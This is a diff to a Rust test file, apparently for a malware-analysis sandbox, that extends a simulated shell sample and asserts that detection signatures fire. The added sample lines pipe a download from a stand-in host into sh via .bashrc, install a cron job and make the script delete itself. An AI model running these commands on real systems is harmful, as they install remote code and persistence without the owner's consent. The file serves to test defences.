@@ -153,6 +153,9 @@ fn shell_sample_behaviour_dropped_files_and_containment() {
          echo pwned > /var/pwned-{mark} 2>/dev/null\n\
          echo evil > /proc/sys/kernel/hostname 2>/dev/null\n\
          echo pwned > {host_tmp}/pwned-{mark} 2>/dev/null\n\
+         echo 'curl -s http://evil.example.com/x | sh' >> /home/john/.bashrc\n\
+         echo '* * * * * /tmp/x' > /etc/cron.d/evil 2>/dev/null\n\
+         rm -f \"$0\"\n\
          exit 0\n",
         host_tmp = s.data().display(),
     );
@@ -202,6 +205,21 @@ fn shell_sample_behaviour_dropped_files_and_containment() {
     assert!(b["apistats"][root.to_string()]["execve"].as_i64().unwrap() >= 1);
     assert!(!b["generic"].as_array().unwrap().is_empty());
     assert_eq!(r["info"]["machine"]["manager"], "ns");
+    let sigs: Vec<&str> = r["signatures"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|s| s["name"].as_str().unwrap())
+        .collect();
+    for want in [
+        "reads_shadow",
+        "persistence_cron",
+        "persistence_shell_rc",
+        "deletes_itself",
+    ] {
+        assert!(sigs.contains(&want), "{want} did not fire: {sigs:?}");
+    }
+    assert!(r["info"]["score"].as_f64().unwrap() > 0.0, "{}", r["info"]);
 
     // Dropped files: identified, attributed to the writer, stored and served.
     let dropped = r["dropped"].as_array().unwrap();
@@ -464,6 +482,13 @@ fn network_sink_answers_dns_and_http_and_everything_is_captured() {
     );
     assert_eq!(http["user-agent"], "nestbox-test/1.0");
     assert_eq!(http["port"], 80);
+    assert!(
+        r["signatures"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|s| s["name"] == "http_request" && s["marks"][0]["ioc"] == http["uri"])
+    );
     let tcp = net["tcp"].as_array().unwrap();
     let has_flow = |dst: &str, dport: u16| {
         tcp.iter()
